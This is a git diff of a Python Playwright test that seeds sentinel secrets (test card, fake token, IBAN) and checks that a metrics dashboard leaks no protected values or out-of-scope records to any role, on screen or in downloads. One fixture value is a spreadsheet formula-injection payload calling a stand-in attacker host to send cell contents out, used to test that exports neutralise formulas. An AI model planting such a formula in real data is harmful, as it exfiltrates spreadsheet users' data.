@@ -22,19 +22,19 @@ import pytest
 from playwright.sync_api import Browser, Page, sync_playwright
 from sqlalchemy import select
 
-from metrics.access import ANONYMOUS, Access
-from metrics.canonical import (
+from metrics.facts import write_and_refresh
+from metrics.views.access import ANONYMOUS, Access
+from metrics.views.handoffs import record_action
+from store.canonical import (
     Activity,
     ErrorClass,
     QuarantineRow,
     SyncAttemptRow,
     SyncStatus,
 )
-from metrics.db import make_engine
-from metrics.migrate import upgrade
-from metrics.models import AuditEntry, Object, SyncAttempt
-from metrics.store import write_batch
-from metrics.views.handoffs import record_action
+from store.db import make_engine
+from store.migrate import upgrade
+from store.tables import AuditEntry, Object, SyncAttempt
 from tests.browser.conftest import ARTIFACTS, CHROMIUM_ARGS, require_chromium
 from tests.browser.oidc import (
     Seen,
@@ -60,11 +60,17 @@ CARD = "4111 1111 1111 1111"
 TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzZW50aW5lbCJ9.c2VudGluZWwtc2lnbmF0dXJl"
 SECRET_TEXT = f"contact {EMAIL}, IBAN {IBAN}, VAT {VAT}, EIN {EIN}, card {CARD}, Bearer {TOKEN}"
 FORMULA_CUSTOMER = '=HYPERLINK("http://attacker.example/?"&B2,"open")'
-#: Sentinel → the kind of value it is (`metrics.access` kinds; "never": removed before storage).
+#: Sentinel → the kind of value it is (`metrics.views.access` kinds; "never": removed before storage).
 SENTINELS = {
-    EMAIL: "email", IBAN: "bank", IBAN.replace(" ", ""): "bank", VAT: "tax_id",
-    EIN: "tax_id", CARD: "never", CARD.replace(" ", ""): "never", TOKEN: "never",
-}  # fmt: skip
+    EMAIL: "email",
+    IBAN: "bank",
+    IBAN.replace(" ", ""): "bank",
+    VAT: "tax_id",
+    EIN: "tax_id",
+    CARD: "never",
+    CARD.replace(" ", ""): "never",
+    TOKEN: "never",
+}
 OUT_OF_SCOPE = ("D-STRAT-7Q", "P-STRAT-7Q", "I-STRAT-7Q", "Zanzibar Strategy Holdings")
 IN_SCOPE = ("D-CLOUD-4K", "Cirrus Cloudworks")
 #: Visitor → (subject, claims).
@@ -104,51 +110,122 @@ def seed(url: str) -> Store:
         stage("D-CLOUD-4K", Activity.DEAL_WON, won),
         deal("D-CLOUD-BILL", practice=IN, customer=FORMULA_CUSTOMER),
         stage("D-CLOUD-BILL", Activity.DEAL_WON, won),
-        project("P-CLOUD-BILL", "D-CLOUD-BILL", won + timedelta(days=2), practice=IN,
-                customer=FORMULA_CUSTOMER),
-        work("W-CLOUD-1", "P-CLOUD-BILL", "900", "USD", (won + timedelta(days=3)).date(),
-             approved=won + timedelta(days=4), logged=won + timedelta(days=3)),
-        work("W-CLOUD-2", "P-CLOUD-BILL", "700", "USD", (won + timedelta(days=3)).date(),
-             approved=won + timedelta(days=4), logged=won + timedelta(days=3),
-             invoice="I-CLOUD-BILL"),
-        invoice("I-CLOUD-BILL", "P-CLOUD-BILL", "700", created=won + timedelta(days=10),
-                posted=won + timedelta(days=12), period_end=(won + timedelta(days=5)).date()),
+        project(
+            "P-CLOUD-BILL",
+            "D-CLOUD-BILL",
+            won + timedelta(days=2),
+            practice=IN,
+            customer=FORMULA_CUSTOMER,
+        ),
+        work(
+            "W-CLOUD-1",
+            "P-CLOUD-BILL",
+            "900",
+            "USD",
+            (won + timedelta(days=3)).date(),
+            approved=won + timedelta(days=4),
+            logged=won + timedelta(days=3),
+        ),
+        work(
+            "W-CLOUD-2",
+            "P-CLOUD-BILL",
+            "700",
+            "USD",
+            (won + timedelta(days=3)).date(),
+            approved=won + timedelta(days=4),
+            logged=won + timedelta(days=3),
+            invoice="I-CLOUD-BILL",
+        ),
+        invoice(
+            "I-CLOUD-BILL",
+            "P-CLOUD-BILL",
+            "700",
+            created=won + timedelta(days=10),
+            posted=won + timedelta(days=12),
+            period_end=(won + timedelta(days=5)).date(),
+        ),
         deal("D-STRAT-7Q", practice=OUT, customer=OUT_OF_SCOPE[3]),
         stage("D-STRAT-7Q", Activity.DEAL_WON, won),
         deal("D-STRAT-BILL", practice=OUT, customer=OUT_OF_SCOPE[3]),
         stage("D-STRAT-BILL", Activity.DEAL_WON, won),
-        project("P-STRAT-7Q", "D-STRAT-BILL", won + timedelta(days=2), practice=OUT,
-                customer=OUT_OF_SCOPE[3]),
-        work("W-STRAT-1", "P-STRAT-7Q", "500", "USD", (won + timedelta(days=3)).date(),
-             approved=won + timedelta(days=4), logged=won + timedelta(days=3)),
-        invoice("I-STRAT-7Q", "P-STRAT-7Q", "500", created=won + timedelta(days=10),
-                posted=won + timedelta(days=20), period_end=(won + timedelta(days=5)).date()),
-    )  # fmt: skip
+        project(
+            "P-STRAT-7Q",
+            "D-STRAT-BILL",
+            won + timedelta(days=2),
+            practice=OUT,
+            customer=OUT_OF_SCOPE[3],
+        ),
+        work(
+            "W-STRAT-1",
+            "P-STRAT-7Q",
+            "500",
+            "USD",
+            (won + timedelta(days=3)).date(),
+            approved=won + timedelta(days=4),
+            logged=won + timedelta(days=3),
+        ),
+        invoice(
+            "I-STRAT-7Q",
+            "P-STRAT-7Q",
+            "500",
+            created=won + timedelta(days=10),
+            posted=won + timedelta(days=20),
+            period_end=(won + timedelta(days=5)).date(),
+        ),
+    )
     rows.objects[0] = dataclasses.replace(rows.objects[0], owner=EMAIL)
-    for key, deal_key, practice_note in (("A-CLOUD", "D-CLOUD-4K", SECRET_TEXT),
-                                         ("A-STRAT", "D-STRAT-7Q", OUT_OF_SCOPE[3])):  # fmt: skip
-        rows.sync_attempts.append(SyncAttemptRow(
-            "ipaas", key, "crm-psa", "crm-psa/project_provisioning", SyncStatus.FAILED,
-            won + timedelta(hours=2), attempt_number=1, error_class=ErrorClass.VALIDATION,
-            error_message=f"customer rejected: {practice_note}",
-            error_signature="customer rejected", trace_key=f"T-{key}", object_system="crm",
-            object_type="deal", object_key=deal_key,
-            payload={"customer": {"contactEmail": EMAIL, "iban": IBAN, "ust_idnr": VAT},
-                     "headers": [["Authorization", f"Bearer {TOKEN}"]],
-                     "memo": practice_note, "creditCard": CARD},
-        ))  # fmt: skip
-    rows.quarantined.append(QuarantineRow(
-        "demo_crm", "opportunities", "bad record", {"Id": "Q-1", "Description": SECRET_TEXT},
-        "Q-1",
-    ))  # fmt: skip
-    write_batch(engine, rows)
+    for key, deal_key, practice_note in (
+        ("A-CLOUD", "D-CLOUD-4K", SECRET_TEXT),
+        ("A-STRAT", "D-STRAT-7Q", OUT_OF_SCOPE[3]),
+    ):
+        rows.sync_attempts.append(
+            SyncAttemptRow(
+                "ipaas",
+                key,
+                "crm-psa",
+                "crm-psa/project_provisioning",
+                SyncStatus.FAILED,
+                won + timedelta(hours=2),
+                attempt_number=1,
+                error_class=ErrorClass.VALIDATION,
+                error_message=f"customer rejected: {practice_note}",
+                error_signature="customer rejected",
+                trace_key=f"T-{key}",
+                object_system="crm",
+                object_type="deal",
+                object_key=deal_key,
+                payload={
+                    "customer": {"contactEmail": EMAIL, "iban": IBAN, "ust_idnr": VAT},
+                    "headers": [["Authorization", f"Bearer {TOKEN}"]],
+                    "memo": practice_note,
+                    "creditCard": CARD,
+                },
+            )
+        )
+    rows.quarantined.append(
+        QuarantineRow(
+            "demo_crm",
+            "opportunities",
+            "bad record",
+            {"Id": "Q-1", "Description": SECRET_TEXT},
+            "Q-1",
+        )
+    )
+    write_and_refresh(engine, rows)
     with engine.connect() as conn:
         deal_id = conn.execute(select(Object.id).where(Object.source_key == "D-CLOUD-4K")).scalar()
         attempt = conn.execute(select(SyncAttempt.id).where(SyncAttempt.source_key == "A-CLOUD"))
         attempt_id = int(attempt.scalar_one())
-    record_action(ANONYMOUS, engine, case_type="deal", case_id=int(deal_id or 0),
-                  case_key="D-CLOUD-4K", action="note", actor="admin",
-                  note=f"called the customer: {SECRET_TEXT}")  # fmt: skip
+    record_action(
+        ANONYMOUS,
+        engine,
+        case_type="deal",
+        case_id=int(deal_id or 0),
+        case_key="D-CLOUD-4K",
+        action="note",
+        actor="admin",
+        note=f"called the customer: {SECRET_TEXT}",
+    )
     engine.dispose()
     return Store(url, attempt_id)
 
@@ -174,7 +251,8 @@ def visits(store: Store, access: Access) -> dict[str, str]:
         "handoffs → a deal": ("handoffs", "handoffs?deal=D-CLOUD-4K"),
         "sync errors": ("sync", "sync_errors"),
         "sync errors → an attempt": (
-            "sync", f"sync_errors?focus=class%7Cvalidation&attempt={store.attempt_id}"
+            "sync",
+            f"sync_errors?focus=class%7Cvalidation&attempt={store.attempt_id}",
         ),
         "trace by link (in scope)": ("trace", "case_trace?case=deal:D-CLOUD-4K"),
         "trace by link (out of scope)": ("trace", "case_trace?case=deal:D-STRAT-7Q"),
@@ -182,7 +260,7 @@ def visits(store: Store, access: Access) -> dict[str, str]:
         "slos": ("slos", "slos"),
         "collectors": ("collectors", "collectors"),
         "audit log": ("audit", "audit"),
-    }  # fmt: skip
+    }
     return {label: path for label, (page, path) in wanted.items() if access.can_open(page)}
 
 
@@ -212,8 +290,9 @@ def test_no_role_sees_out_of_scope_records_or_protected_values_on_screen_or_in_f
     with provider(home) as idp, serving(idp, home, store.url) as served:
         for visitor, (subject, claims) in VISITORS.items():
             put_user(idp, subject, {"email": f"{subject}@firm.example", **claims})
-            context = browser.new_context(viewport={"width": 1400, "height": 2400},
-                                          accept_downloads=True)  # fmt: skip
+            context = browser.new_context(
+                viewport={"width": 1400, "height": 2400}, accept_downloads=True
+            )
             page = context.new_page()
             try:
                 sign_in(page, served, idp, subject)
@@ -230,8 +309,10 @@ def test_no_role_sees_out_of_scope_records_or_protected_values_on_screen_or_in_f
                 for label, what in seen.items():
                     text = unechoed(what.everything())
                     leaks = [v for v in forbidden(visitor) if v in text]
-                    matrix.append(f"{visitor:18} {label:30} {len(what.files):3} files  "
-                                  f"{'LEAK ' + ', '.join(leaks) if leaks else 'ok'}")  # fmt: skip
+                    matrix.append(
+                        f"{visitor:18} {label:30} {len(what.files):3} files  "
+                        f"{'LEAK ' + ', '.join(leaks) if leaks else 'ok'}"
+                    )
                     problems += [f"{visitor} / {label}: {leak}" for leak in leaks]
                     problems += [f"{visitor} / {label}: formula {f}" for f in what.formulas]
                     if "Traceback" in what.text or 'File "' in what.text:
